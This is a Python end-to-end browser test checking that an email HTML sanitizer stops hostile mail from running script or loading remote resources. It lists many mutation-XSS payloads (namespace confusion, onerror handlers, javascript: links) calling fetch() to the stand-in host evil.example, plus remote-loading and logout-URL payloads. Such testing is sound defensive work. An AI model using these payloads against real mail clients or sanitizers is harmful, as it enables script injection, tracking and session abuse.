"""Mails made to run or load something, in a real browser: nothing runs, and nothing leaves."""

import pytest
from playwright.sync_api import Route

from ccx.kernel.people.choices import Role
from ccx.kernel.people.models import User
from interactions.channels.email.html_safe import clean
from interactions.doors.mail.services import take_mail
from interactions.models import Message
from tests.e2e.driving import signed_in, window
from tests.factories.contacts import make_centre

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

# Payloads that changed their meaning between a cleaner's reading and a browser's, and plain ones.
RUN = "fetch('https://evil.example/ran')"
MUTATING = (
    "<script>{run}</script>",
    '<img src=x onerror="{run}">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror="{run}">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{run}">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    '<svg><style><img src=x onerror="{run}"></style></svg>',
    '<svg><foreignObject><math><annotation-xml encoding="text/html"><img src=x onerror="{run}">',
    '<svg><desc><template><style></desc><img src=x onerror="{run}"></style></template></svg>',
    '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    "<template><script>{run}</script></template><template shadowrootmode=open><script>{run}</script></template>",
    '<textarea><p title="</textarea><img src=x onerror={run}>">',
    '<title><p title="</title><img src=x onerror={run}>">',
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    '<iframe srcdoc="<script>{run}</script>"></iframe><noembed><img title="</noembed><img src=x onerror={run}>">',
    '<p title="`><img src=x onerror={run}>`">x</p><!--><img src=x onerror="{run}">-->',
    "<![CDATA[><img src=x onerror={run}>]]><?xml ><img src=x onerror={run}>?>",
    '<select><template><style><!--</select><img src=x onerror="{run}">--></style></template>',
    '<details open ontoggle="{run}"><summary>x</summary></details><body onload="{run}">x</body>',
    '<input autofocus onfocus="{run}"><video><source onerror="{run}"></video><marquee onstart="{run}">x</marquee>',
    '<a id=link href="java&#10;script:{run}">one</a><a href="&#1;javascript:{run}">two</a>',
)
LOADING = (
    "<img src='https://evil.example/1'><img src='//evil.example/2'><img srcset='https://evil.example/3 2x'>",
    "<picture><source srcset='https://evil.example/4'><img></picture><video poster='https://evil.example/5'></video>",
    "<audio src='https://evil.example/6' autoplay></audio><embed src='https://evil.example/7'>",
    "<link rel=stylesheet href='https://evil.example/8'><link rel=prefetch href='https://evil.example/9'>",
    "<style>@import url(https://evil.example/10); body{{background:url(https://evil.example/11)}}</style>",
    "<p style='background:url(https://evil.example/12);list-style-image:u\\72l(https://evil.example/13)'>x</p>",
    "<table background='https://evil.example/14'><tr><td background='https://evil.example/15'>x</table>",
    "<svg><image href='https://evil.example/16'/><use href='https://evil.example/17#a'/></svg>",
    "<iframe src='https://evil.example/18'></iframe><object data='https://evil.example/19'></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/20'><base href='https://evil.example/21/'>",
    "<img src='/accounts/logout/'><img src='/api/v1/'><p style='position:fixed;z-index:9;inset:0'>cover</p>",
)

PUT = """left => {
    document.body.innerHTML = left;
    document.body.innerHTML = document.body.innerHTML;
    for (const link of document.querySelectorAll('a')) link.removeAttribute('target'), link.click();
}"""


def test_no_mail_runs_or_loads_anything(live_server, browser):
    centre = make_centre()
    page = window(
        browser,
        live_server.url,
        session=signed_in(User.objects.create_user("alice@example.org", name="Alice", role=Role.ADMINISTRATOR)),
    )
    asked: list[str] = []

    def hear(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=204) if "evil.example" in route.request.url else route.continue_()

    page.context.route("**/*", hear)
    page.on("dialog", lambda dialog: (asked.append("dialog"), dialog.dismiss()))

    # The cleaner alone, in a page that would run and load anything; what it left is read again as browsers do.
    bare = page.context.new_page()
    bare.goto("about:blank")
    bare.evaluate(PUT, MUTATING[1].format(run=RUN))
    bare.wait_for_timeout(300)
    assert "https://evil.example/ran" in asked, "the page runs what is not cleaned"
    asked.clear()
    for html in MUTATING:
        bare.evaluate(PUT, clean(f"<p>Before</p>{html.format(run=RUN)}").html)
    bare.wait_for_timeout(300)
    bare.close()
    assert asked == []

    # All together as an agent sees them.
    words = "\n".join(f"<div>{html.format(run=RUN)}</div>" for html in (*LOADING, *MUTATING))
    raw = f"From: Eve <eve@example.test>\nMessage-ID: <e@example.test>\nContent-Type: text/html\n\n<p>Hello</p>{words}"
    taken = take_mail(inbox=centre.email, raw=raw.encode())
    message = Message.objects.get(pk=taken.receipt.message_id)
    address = f"{live_server.url}/desk/messages/{message.public_id}/layout/"
    page.goto(address)
    assert page.locator("text=Hello").is_visible()
    page.wait_for_timeout(300)
    assert {url for url in asked if "/static/css/" not in url} == {address}
    assert page.complaints == []
    assert page.evaluate("getComputedStyle(document.body.querySelector('p')).position") == "static"
